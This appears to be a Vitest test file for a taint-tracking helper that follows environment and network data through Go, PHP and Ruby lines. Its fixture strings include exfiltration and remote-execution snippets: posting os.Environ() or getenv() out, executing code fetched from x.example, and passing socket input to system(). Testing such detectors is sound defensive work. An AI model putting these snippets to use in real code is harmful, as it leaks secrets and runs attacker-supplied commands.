import { describe, expect, it } from "vitest";
import { followLines } from "./follow-lines.ts";

function carriedAt(line: number, text: string): string[] {
  const lines = text.split("\n").map((one, index) => ({ line: index + 1, text: one }));
  return (followLines(lines, "a").get(line)?.carries ?? []).map(({ kind, what }) => `${kind} ${what}`);
}

describe("followLines", () => {
  it("follows a value through variables of Go", () => {
    expect(
      carriedAt(2, 'b, _ := json.Marshal(os.Environ())\nhttp.Post(url, "x", bytes.NewReader(b))'),
    ).toEqual(["environment *"]);
  });

  it("follows it through what it is put into, and through a function", () => {
    expect(
      carriedAt(3, "$c = curl_init($u);\ncurl_setopt($c, CURLOPT_POSTFIELDS, getenv());\ncurl_exec($c);"),
    ).toContain("environment *");
    const go =
      'func helper() string {\n  r, _ := http.Get("https://x.example/a")\n  return r\n}\nexec.Command(helper())';
    expect(carriedAt(5, go)).toEqual(["network https://x.example/a"]);
  });

  it("knows what comes in over a socket, and carries nothing where nothing is read", () => {
    expect(carriedAt(2, 's = TCPSocket.new("203.0.113.4", 80)\nsystem(s.gets)')).toEqual([
      "network socket 203.0.113.4",
    ]);
    expect(carriedAt(2, 'a = "x"\nputs a')).toEqual([]);
  });
});
